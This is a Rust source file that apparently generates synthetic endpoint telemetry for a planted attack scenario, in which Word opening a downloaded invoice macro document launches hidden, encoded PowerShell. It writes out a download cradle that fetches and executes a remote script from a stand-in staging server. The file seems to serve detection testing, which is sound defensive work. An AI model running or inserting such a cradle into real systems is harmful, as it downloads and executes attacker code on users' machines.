//! Planted: a macro document starts encoded PowerShell. The user opens a downloaded
//! `.docm` from explorer.exe; WINWORD.EXE starts `powershell.exe -NoP -W Hidden -Enc …`
//! (a download cradle, Base64 of UTF-16LE), which connects to the staging server.

use serde_json::{Map, Value};

use super::{Env, Kind, Scenario, outbound, process_record};
use crate::synth::content as c;
use crate::synth::device::{Ctx, MINUTE, SECOND, Spawn};
use crate::synth::rng::Rng;
use crate::synth::world as w;

/// See the module documentation.
pub struct OfficeEncodedPowershell;

impl Scenario for OfficeEncodedPowershell {
    fn name(&self) -> &'static str {
        "office_encoded_powershell"
    }

    fn kind(&self) -> Kind {
        Kind::Attack
    }

    fn technique(&self) -> &'static str {
        "T1059.001"
    }

    fn run(&self, ctx: &mut Ctx<'_>, env: &Env<'_>, at: i64, rng: &mut Rng) -> Map<String, Value> {
        let user = &env.session.user.name;
        let doc = format!("C:\\Users\\{user}\\Downloads\\Invoice_{}.docm", rng.range(1000, 9999));
        let word = ctx.spawn(
            at,
            Spawn::new(&w::WINWORD, format!("\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{doc}\" /o \"\""))
                .parent(&env.session.explorer)
                .lifetime(10 * MINUTE),
        );
        let cradle = format!("IEX (New-Object Net.WebClient).DownloadString('http://{}/a.ps1')", c::STAGING_IP);
        let ps = ctx.spawn(
            at + 6 * SECOND,
            Spawn::new(&w::POWERSHELL, format!("powershell.exe -NoP -W Hidden -Enc {}", c::powershell_encoded(&cradle))).parent(&word).lifetime(MINUTE),
        );
        let conn = outbound(c::STAGING_IP, 80, rng);
        ctx.connect(&ps, at + 7 * SECOND, &conn);
        process_record(&ps, &word)
    }
}
